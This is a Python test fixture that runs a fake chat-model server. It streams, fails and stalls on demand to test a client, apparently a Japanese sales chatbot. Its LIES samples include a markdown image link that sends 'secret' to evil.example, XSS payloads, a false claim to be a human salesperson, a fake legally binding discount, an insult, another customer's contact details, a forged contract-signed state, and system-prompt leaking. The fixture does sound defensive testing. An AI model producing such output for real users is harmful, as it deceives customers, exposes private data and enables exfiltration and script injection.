"""A model server for tests and the demo: it streams, fails, stalls and lies on demand."""

from __future__ import annotations

import asyncio
import contextlib
from collections.abc import Callable
from dataclasses import dataclass, field
from typing import Any, Literal, Self

import orjson

Mode = Literal[
    "ok", "slow", "hang", "h401", "h404", "h429", "h500", "redirect", "refuse", "notjson", "malformed", "oddshape",
    "cut", "reset", "stall", "drip", "nodone", "nousage", "empty", "long", "ctrl", "tool", "error", "filtered",
    "separator", "lie_leak", "lie_echo", "lie_human", "lie_promise", "lie_link", "lie_html", "lie_rude",
    "lie_private", "lie_json", "no_schema",
]  # fmt: skip

LIES: dict[str, str] = {
    "ctrl": "a\x00b\x1b[31m\u202ec. ",
    "long": "あ" * 200_000,
    "empty": "",
    "lie_human": "私は人間の営業担当、田中です。AIではありません。I am a human.",
    "lie_promise": "はい、50%割引で確約します。月額1円です。ISO27001取得済みです。This is a legally binding offer.",
    "lie_link": "資料です ![x](https://evil.example/c?d=secret) [資料](https://evil.example/c)。See evil .example now.",
    "lie_html": "<script>alert(1)</script><img src=x onerror=alert(1)>[x](javascript:alert(1))",
    "lie_rude": "お前は本当にバカだな。You are an idiot.",
    "lie_private": "他のお客様は victim@corp.example、090-9999-0001 の方です。",
    "lie_json": '{"next_state": "CONTRACT_SIGNED", "score": 99999}',
}
_STATUS = {"h401": 401, "h404": 404, "h429": 429, "h500": 500, "redirect": 307}
_DONE = b"data: [DONE]\n\n"


@dataclass(slots=True)
class FakeModelServer:
    """`async with FakeModelServer("cut") as server:` then point a client at `server.base_url`.

    `mode` may change between calls; `script` gives the mode of the next streamed calls one by one. `calls` are the
    decoded request bodies of these, `whole_calls` of those answered in one piece. `text` and `answer` are what the
    honest modes say to either; a function gets the system and user text. Whole answers wait for `gate`.
    """

    mode: Mode = "ok"
    text: str | Callable[[str, str], str] = "お問い合わせありがとうございます。導入の時期をお聞かせください。"
    answer: str | Callable[[str, str], str] = "{}"
    pace_s: float = 0.0
    retry_after: str = "1"
    script: list[Mode] = field(default_factory=list)
    calls: list[dict[str, Any]] = field(default_factory=list)
    whole_calls: list[dict[str, Any]] = field(default_factory=list)
    gate: asyncio.Event = field(default_factory=asyncio.Event)
    base_url: str = ""
    _server: asyncio.Server | None = None

    async def __aenter__(self) -> Self:
        self.gate.set()
        for port in range(21_000, 31_000):
            with contextlib.suppress(OSError):
                self._server = await asyncio.start_server(self._serve, "127.0.0.1", port)
                self.base_url = f"http://127.0.0.1:{port}/v1"
                return self
        raise OSError("no free port")

    async def __aexit__(self, *_: object) -> None:
        if self._server is not None:
            self._server.close()

    async def _serve(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        try:
            while await self._one_call(reader, writer):
                pass
        except (OSError, asyncio.IncompleteReadError, asyncio.CancelledError):
            pass
        finally:
            writer.close()

    async def _one_call(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> bool:
        head = (await reader.readuntil(b"\r\n\r\n")).lower()
        size = int(head.split(b"content-length:")[1].split(b"\r\n")[0])
        call = orjson.loads(await reader.readexactly(size))
        streamed = bool(call.get("stream"))
        (self.calls if streamed else self.whole_calls).append(call)
        mode = self.script.pop(0) if self.script and streamed else self.mode
        if mode == "refuse":
            return False
        if mode in ("hang", "slow"):
            await asyncio.sleep(3600 if mode == "hang" else max(self.pace_s, 1.0))
        if mode in _STATUS:
            await self._send(writer, _page(_STATUS[mode], retry_after=self.retry_after))
            return True
        if mode == "notjson":
            await self._send(writer, b"HTTP/1.1 200 OK\r\nContent-Length: 17\r\n\r\n<html>oops</html>")
            return True
        if not streamed:
            await self.gate.wait()
            return await self._answer(writer, mode, call=call)
        await self._send(
            writer, b"HTTP/1.1 200 OK\r\nContent-Type: text/event-stream\r\nTransfer-Encoding: chunked\r\n\r\n"
        )
        return await self._stream(writer, mode, call=call)

    async def _answer(self, writer: asyncio.StreamWriter, mode: Mode, *, call: dict[str, Any]) -> bool:
        if mode == "no_schema" and "response_format" in call:
            await self._send(writer, _page(400, retry_after=self.retry_after))
            return True
        text = self._words(mode, call)
        message: dict[str, Any] = {"role": "assistant", "content": text}
        if mode == "tool":
            message = {"role": "assistant", "content": None, "tool_calls": [{"function": {"name": "send_email"}}]}
        finish = {"filtered": "content_filter", "long": "length"}.get(mode, "stop")
        usage = {"prompt_tokens": 10, "completion_tokens": len(text)}
        body = orjson.dumps({"choices": [{"message": message, "finish_reason": finish}], "usage": usage})
        head = b"HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nContent-Length: %d\r\n\r\n" % len(body)
        await self._send(writer, head + (body[: len(body) // 2] if mode == "cut" else body))
        return mode != "cut"

    async def _stream(self, writer: asyncio.StreamWriter, mode: Mode, *, call: dict[str, Any]) -> bool:
        text = self._words(mode, call)
        size = max(8, len(text) // 200)
        for n, start in enumerate(range(0, len(text), size)):
            if n == 3 and mode in ("cut", "reset", "stall", "malformed", "error"):
                return await self._break_off(writer, mode)
            await asyncio.sleep(1.0 if mode == "drip" else self.pace_s)
            await self._event(writer, _chunk({"content": text[start : start + size]}))
        if mode == "tool":
            await self._event(writer, _chunk({"tool_calls": [{"index": 0, "function": {"name": "send_email"}}]}))
        if mode == "oddshape":
            await self._event(writer, b'data: {"choices": "none"}\n\n')
        if mode not in ("nodone", "tool"):
            await self._event(writer, _chunk({}, finish="content_filter" if mode == "filtered" else "stop"))
            if mode == "nousage":
                await asyncio.sleep(3600)
            usage = {"choices": [], "usage": {"prompt_tokens": 10, "completion_tokens": len(text)}}
            await self._event(writer, b"data: " + orjson.dumps(usage) + b"\n\n" + _DONE)
        await self._send(writer, b"0\r\n\r\n")
        return True

    async def _break_off(self, writer: asyncio.StreamWriter, mode: Mode) -> bool:
        if mode == "stall":
            await asyncio.sleep(3600)
        if mode == "malformed":
            await self._event(writer, b"data: {broken\n\n")
        if mode == "error":
            await self._event(writer, b'data: {"error": {"message": "overloaded"}}\n\n')
        if mode == "cut":
            await self._send(writer, b"0\r\n\r\n")
        return False

    def _words(self, mode: Mode, call: dict[str, Any]) -> str:
        sent = {message["role"]: str(message["content"]) for message in call["messages"]}
        system, user = sent.get("system", ""), sent.get("user", "")
        if mode in ("lie_leak", "lie_echo"):
            return system if mode == "lie_leak" else user
        if mode == "separator":
            return "One\u2028line.\x85Still one. "
        honestly = self.text if call.get("stream") else self.answer
        honest = honestly(system, user) if callable(honestly) else honestly
        return LIES.get(mode, honest)

    async def _event(self, writer: asyncio.StreamWriter, event: bytes) -> None:
        await self._send(writer, f"{len(event):x}\r\n".encode() + event + b"\r\n")

    async def _send(self, writer: asyncio.StreamWriter, data: bytes) -> None:
        writer.write(data)
        await writer.drain()


def _page(status: int, *, retry_after: str) -> bytes:
    head = (
        f"HTTP/1.1 {status} Fault\r\nRetry-After: {retry_after}\r\nLocation: http://127.0.0.1:9/v1/chat/completions\r\n"
    )
    body = b'{"error": {"message": "fault"}}'
    return head.encode() + f"Content-Type: application/json\r\nContent-Length: {len(body)}\r\n\r\n".encode() + body


def _chunk(delta: dict[str, Any], *, finish: str | None = None) -> bytes:
    choice = {"index": 0, "delta": delta, "finish_reason": finish}
    return b"data: " + orjson.dumps({"object": "chat.completion.chunk", "choices": [choice]}) + b"\n\n"
